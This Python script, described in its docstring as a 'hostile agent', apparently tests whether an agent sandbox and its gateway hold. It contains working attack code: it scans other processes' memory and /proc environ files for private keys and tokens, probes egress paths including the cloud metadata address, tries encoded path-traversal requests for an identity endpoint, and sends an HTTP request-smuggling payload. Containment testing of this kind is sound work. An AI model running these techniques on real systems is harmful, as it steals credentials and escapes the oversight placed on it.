"""A hostile agent: whatever it can read, wherever it can get to. The standard library alone."""

import base64
import contextlib
import http.client
import json
import os
import re
import socket
import sys
from pathlib import Path

SECRET = re.compile(rb"-----BEGIN [A-Z ]*PRIVATE KEY-----|eyJ[\w-]{16,}\.[\w-]{16,}\.[\w-]{16,}")
PLANTED = ".".join(
    ["eyJ" + "planted-" * 3, "x" * 20, "y" * 20]
)  # in memory alone, to be found there
HOST_PORTS = [int(port) for port in sys.argv[1:]]


def readable():
    """The text of every file that is not the system's, and of what /proc says of processes."""
    for folder, _, names in os.walk("/"):
        if folder.startswith(("/usr", "/proc", "/sys", "/lib", "/bin", "/sbin", "/dev")):
            continue
        yield from (Path(folder, name) for name in names)
    for pattern in ("environ", "cmdline", "mountinfo", "net/unix", "task/*/environ"):
        yield from Path("/proc").glob(f"[0-9]*/{pattern}")


def seen():
    found = []
    for path in readable():
        with contextlib.suppress(OSError), path.open("rb") as file:
            found.append(file.read(2**20))
    return b"\n".join(found)


def memory():
    """Matches in the memory of each process that lets us look, and which those were."""
    found, looked = [], []
    for place in Path("/proc").glob("[0-9]*"):
        try:
            with (place / "maps").open() as maps, (place / "mem").open("rb", 0) as mem:
                for line in maps:
                    span, modes, *_ = line.split()
                    begin, end = (int(one, 16) for one in span.split("-"))
                    if modes.startswith("rw") and end - begin < 2**26:
                        with contextlib.suppress(OSError, ValueError, OverflowError):
                            mem.seek(begin)
                            text = mem.read(end - begin)
                            found += [m for m in SECRET.findall(text) if b"\\" not in m]
            looked.append(place)
        except OSError:
            continue
    return sorted({one[:40].decode() for one in found}), len(looked)


def way(family, kind, address, *, connect=True):
    """What happens on a way out."""
    try:
        with socket.socket(family, kind) as one:
            one.settimeout(1)
            if connect:
                one.connect(address)
            else:
                one.sendto(b"\0" * 40, address)
                one.recv(100)
    except OSError as error:
        return type(error).__name__
    return "through"


def ways():
    stream, packet = socket.SOCK_STREAM, socket.SOCK_DGRAM
    found = {}
    for port in HOST_PORTS:
        found[f"the machine's port {port}"] = way(socket.AF_INET, stream, ("127.0.0.1", port))
    for host in ("192.0.2.1", "169.254.169.254", "10.0.0.1", "8.8.8.8"):
        found[host] = way(socket.AF_INET, stream, (host, 443))
    found["dns"] = way(socket.AF_INET, packet, ("8.8.8.8", 53), connect=False)
    found["ipv6"] = way(socket.AF_INET6, stream, ("2001:db8::1", 443))
    found["raw"] = way(socket.AF_INET, socket.SOCK_RAW, ("127.0.0.1", 0))
    found["abstract"] = way(socket.AF_UNIX, stream, "\0/tmp/.X11-unix/X0")
    found["control"] = way(socket.AF_UNIX, stream, "/run/portcullis/control.sock")
    with contextlib.suppress(OSError):
        socket.getaddrinfo("example.com", 443)
        found["resolver"] = "through"
    return found


def asked(method, target):
    """The gate's status and code for a request of ours, as it stands."""
    connection = http.client.HTTPConnection("127.0.0.1", 8700, timeout=10)
    try:
        connection.putrequest(method, target, skip_host=True)
        connection.putheader("host", "127.0.0.1:8700")
        connection.putheader("content-length", "0")
        connection.endheaders()
        answer = connection.getresponse()
        code = re.search(r'"code": ?"(PC\d+)"', answer.read(65536).decode())
        return answer.status, code and code[1]
    finally:
        connection.close()


def smuggled():
    """Two requests in the bytes of one, for a path that is not ours to ask."""
    with socket.create_connection(("127.0.0.1", 8700), timeout=10) as one:
        one.sendall(
            b"POST /mcp/kb HTTP/1.1\r\nhost: a\r\ncontent-length: 4\r\ntransfer-encoding: chunked"
            b"\r\n\r\n0\r\n\r\nPOST /v1/svid HTTP/1.1\r\nhost: a\r\ncontent-length: 0\r\n\r\n"
        )
        return one.recv(65536).split(b"\r\n")[0].decode()


TARGETS = [
    ("POST", "/v1/svid"),
    ("POST", "/v1/token"),
    ("GET", "/api/v1/principals"),
    ("GET", "/metrics"),
    ("GET", "/"),
    ("POST", "/openai/../v1/svid"),
    ("POST", "/openai/%2e%2e/v1/svid"),
    ("POST", "//v1/svid"),
    ("POST", "/mcp/kb%2f..%2f..%2fv1%2fsvid"),
    ("GET", "http://127.0.0.1/v1/svid"),
    ("CONNECT", "127.0.0.1:7301"),
]
sys.stdout.write(
    json.dumps(
        {
            "asked": [asked(*one) for one in TARGETS],
            "allowed": asked("GET", "/v1/bundle"),
            "smuggled": smuggled(),
            "ways": ways(),
            "seen": base64.b64encode(seen()).decode(),
            "memory": memory(),
        }
    )
)
